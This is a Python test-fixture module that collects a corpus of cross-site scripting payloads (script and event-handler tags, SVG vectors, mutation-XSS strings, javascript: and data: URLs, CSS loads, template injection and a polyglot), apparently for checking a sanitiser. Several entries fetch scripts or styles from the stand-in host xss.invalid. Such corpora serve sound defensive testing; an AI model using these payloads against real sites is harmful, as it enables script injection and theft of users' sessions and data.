"""Texts that are made to run as a script, fetch something, or break out of where they stand. None of them may do anything but be read.

After OWASP's cheat sheet on evading filters, PortSwigger's list of vectors, and the mutations of markup that sanitisers have missed. `xss()` is
what they call and `xss.invalid` what they fetch: the trap of `script_trap.py` sees either.
"""

from __future__ import annotations

from typing import Final

_TAGS: Final = (
    "<script>xss()</script>",
    '"><script>xss()</script>',
    "'\"><img src=x onerror=xss()>",
    "<ScRiPt/x>xss()</ScRiPt>",
    "<scr<script>ipt>xss()</scr</script>ipt>",
    "<script src=https://xss.invalid/x.js></script>",
    "<script type=module>import 'https://xss.invalid/x.js'</script>",
    "</script><script>xss()</script>",
    "--><script>xss()</script>",
    "]]><script>xss()</script>",
    "</title></textarea></style><script>xss()</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=x:x onerror=eval('xss()')>",
    "<img/src=`x`onerror=xss()>",
    "<video><source onerror=xss()></video>",
    "<audio src=x onerror=xss()>",
    "<body onload=xss()>",
    "<input autofocus onfocus=xss()>",
    "<details open ontoggle=xss()>x</details>",
    "<marquee onstart=xss()>x</marquee>",
    "<div onpointerover=xss() style=position:fixed;inset:0>x</div>",
    "<template shadowrootmode=open><img src=x onerror=xss()></template>",
    "<iframe src=javascript:parent.xss()></iframe>",
    '<iframe srcdoc="<script>parent.xss()</script>"></iframe>',
    "<object data=javascript:xss()></object>",
    "<embed src=https://xss.invalid/x.svg>",
    "<meta http-equiv=refresh content='0;url=https://xss.invalid/'>",
    "<base href=https://xss.invalid/>",
    "<form action=https://xss.invalid/><button autofocus>x</button></form>",
)
_DRAWINGS: Final = (
    "<svg onload=xss()>",
    "<svg><script>xss()</script></svg>",
    "<svg><animate onbegin=xss() attributeName=x dur=1s></svg>",
    '<svg><a xlink:href="javascript:xss()"><text y=20>x</text></a></svg>',
    "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>xss()</script></svg>#x'></svg>",
    "<svg><foreignObject><iframe src=javascript:parent.xss()></iframe></foreignObject></svg>",
    "<svg><image href=https://xss.invalid/p.png></svg>",
)
_MUTATIONS: Final = (
    '<noscript><p title="</noscript><img src=x onerror=xss()>">',
    '<svg></p><style><a id="</style><img src=1 onerror=xss()>">',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=xss()&gt;">',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=xss()>",
    "&lt;script&gt;xss()&lt;/script&gt;",
    "&#60;img src=x onerror=xss()&#62;",
    "%3Cscript%3Exss()%3C/script%3E",
    "\\u003cscript\\u003exss()\\u003c/script\\u003e",
    "＜script＞xss()＜/script＞",
    "<script\x00>xss()</script>",
    "\u202e<img src=x onerror=xss()>",
)
_ADDRESSES: Final = (
    "javascript:xss()",
    "JaVaScRiPt:xss()",
    "javascript://%0axss()",
    "java\tscript:xss()",
    " \x01javascript:xss()",
    "vbscript:xss()",
    "data:text/html,<script>xss()</script>",
    "data:text/html;base64,PHNjcmlwdD54c3MoKTwvc2NyaXB0Pg==",
    "//xss.invalid/x",
    "https://xss.invalid/?q=<script>xss()</script>",
    "[x](javascript:xss())",
    "[x](data:text/html,<script>xss()</script>)",
    "![x](https://xss.invalid/p.png)",
    '[x](https://e.example "onmouseover=xss()")',
)
_STYLES: Final = (
    "<style>@import 'https://xss.invalid/x.css'</style>",
    "<style>*{background:url(https://xss.invalid/p)}</style>",
    "<link rel=stylesheet href=https://xss.invalid/x.css>",
    'x" style="background:url(https://xss.invalid/a)" onmouseover="xss()',
    "red;background:url(https://xss.invalid/p)",
    "url(javascript:xss())",
    "expression(xss())",
)
_CODE: Final = (
    "{{constructor.constructor('xss()')()}}",
    "${xss()}",
    "#{xss()}",
    "<%= xss() %>",
    "');xss();//",
    '\\";xss();//',
    "`;xss();`",
    "__proto__",
    "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=xss() )//</stYle/</titLe/</teXtarEa/</scRipt/--!><sVg/oNloAd=xss()//>",
)

CORPUS: Final = (*_TAGS, *_DRAWINGS, *_MUTATIONS, *_ADDRESSES, *_STYLES, *_CODE)
